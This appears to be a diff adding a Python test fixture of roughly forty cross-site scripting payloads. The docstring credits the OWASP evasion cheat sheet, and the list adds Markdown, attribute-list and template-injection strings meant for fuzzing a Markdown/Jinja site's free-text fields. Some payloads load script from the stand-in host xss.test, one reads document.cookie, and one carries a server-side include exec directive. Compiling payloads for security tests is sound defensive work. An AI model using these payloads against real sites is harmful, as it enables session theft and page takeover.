@@ -1,0 +1,48 @@
+"""Cross-site scripting payloads, after the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown, attr_list
+and template-syntax injections specific to a Markdown/Jinja site. Each is at most 200 characters (the
+longest a record's name may be). Tests place them in every free-text field and in policy diffs."""
+
+PAYLOADS = [
+    "<script>alert('XSS')</script>",
+    "<SCRIPT SRC=http://xss.test/xss.js></SCRIPT>",
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    "<SCRIPT/XSS SRC=\"http://xss.test/xss.js\"></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+    "<SCRIPT SRC=http://xss.test/xss.js?< B >",
+    "<iframe src=http://xss.test/scriptlet.html <",
+    "\\\";alert('XSS');//",
+    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<svg/onload=alert('XSS')>",
+    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+    "<STYLE>@import'http://xss.test/xss.css';</STYLE>",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.test/scriptlet.html\"></OBJECT>",
+    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" AllowScriptAccess=\"always\"></EMBED>",
+    "<details open ontoggle=alert(1)>",
+    "[click me](javascript:alert(1))",
+    "![img](x\" onerror=\"alert(1))",
+    "Heading {: onclick=\"alert(1)\" }",
+    "{{ config.extra }} {% raw %}{{7*7}}${alert(1)}",
+    "<!--#exec cmd=\"/bin/echo 'x'\"--> ]]><![CDATA[<script>alert(1)</script>]]>",
+    "\u003cscript\u003ealert(1)\u003c/script\u003e &lt;script&gt;alert(1)&lt;/script&gt;",
+]
+
+assert len(PAYLOADS) >= 30 and all(len(p) <= 200 for p in PAYLOADS)
